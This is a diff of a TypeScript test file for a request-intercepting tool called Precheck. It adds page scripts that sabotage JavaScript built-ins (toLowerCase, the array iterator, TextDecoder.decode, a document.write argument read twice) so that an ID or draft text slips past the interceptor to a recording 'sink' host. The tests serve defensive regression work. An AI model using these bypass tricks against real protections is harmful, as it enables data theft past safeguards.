@@ -7,9 +7,14 @@
  * rewrote the question a sync request asked, an `Object.prototype.then` made the answer a thenable the
  * page resolved, `MessageEvent`'s `data` getter rewrote the answer itself, and a replaced
  * `URL.createObjectURL` aimed the refused request somewhere of the page's choosing. Without Precheck
- * (the control host) each delivers the ID; with the build before lib/intercept/main/intrinsics.ts
- * every one of them delivered it with Precheck too (checked by building 38d24c5); now none does. Each
- * page script restores what it replaced (the next case loads the page afresh anyway).
+ * (the control host) each delivers the ID; with the build before lib/realm/intrinsics.ts every one of
+ * the first twelve delivered it with Precheck too (checked by building 38d24c5), and the four after
+ * them — a replaced `toLowerCase` or array iterator that made setAttribute judge nothing, a replaced
+ * `TextDecoder.prototype.decode`, document.write's 65th argument read twice — with the build after
+ * the first fix (b177628); now none does. Each page script restores what it replaced (the next case
+ * loads the page afresh anyway). Rows that did not leak before were left out (a blob: document marked
+ * judged through `Object.prototype.judge` is still judged when a frame loads it; UTF-16 bytes are not
+ * what the recording server can tell carries the ID).
  */
 import { describe, test } from 'vitest';
 import { probePage } from './probe-page.ts';
@@ -80,6 +85,21 @@ const REPLACED: [label: string, code: string][] = [
     `const S = String; window.String = function () { return ''; };
      try { const d = document.createElement('div'); d.innerHTML = '<img src="' + sink('str-html') + '?c=' + ID + '">'; document.body.append(d); } finally { window.String = S; }`,
   ],
+  [
+    "String.prototype.toLowerCase replaced: setAttribute's name judged as ''",
+    `const l0 = String.prototype.toLowerCase; String.prototype.toLowerCase = function () { return ''; };
+     try { const i = document.createElement('img'); i.setAttribute('src', sink('lower') + '?c=' + ID); document.body.append(i); } finally { String.prototype.toLowerCase = l0; }`,
+  ],
+  [
+    "an array iterator's next ends at once: setAttribute's arguments read as undefined",
+    `const I = Object.getPrototypeOf([][Symbol.iterator]()); const n0 = I.next; I.next = function () { return { done: true, value: undefined }; };
+     try { const i = document.createElement('img'); i.setAttribute('src', sink('attr-iter') + '?c=' + ID); document.body.append(i); } finally { I.next = n0; }`,
+  ],
+  [
+    'TextDecoder.prototype.decode says the bytes hold nothing',
+    `const d0 = TextDecoder.prototype.decode; const bytes = new TextEncoder().encode('content=' + encodeURIComponent(draft)); TextDecoder.prototype.decode = function () { return 'ok'; };
+     let p; try { p = fetch(sink('decode'), { method: 'POST', body: bytes }); } finally { TextDecoder.prototype.decode = d0; } await p;`,
+  ],
 ];
 
 /** Aimed at the hooks: without Precheck the page's own call sends the clean version, which must arrive with Precheck too. */
@@ -88,6 +108,11 @@ const AT_THE_HOOKS: [label: string, code: string][] = [
     "a fetch init's body answered by a getter on Object.prototype",
     `let n = 0; Object.defineProperty(Object.prototype, 'body', { configurable: true, get() { return n++ ? 'content=' + encodeURIComponent(draft) : 'hello'; }, set() {} });
      let p; try { p = fetch(sink('proto-body'), { method: 'POST' }); } finally { delete Object.prototype.body; } await p;`,
+  ],
+  [
+    "document.write's 65th argument: a string that answers twice",
+    `const f = document.createElement('iframe'); document.body.append(f); const d = f.contentDocument; d.open();
+     d.write(...new Array(64).fill(''), flip('<img src="' + sink('dw') + '?q=1">', '<img src="' + sink('dw') + '?c=' + ID + '">')); d.close(); await new Promise((r) => setTimeout(r, 1000));`,
   ],
 ];
 
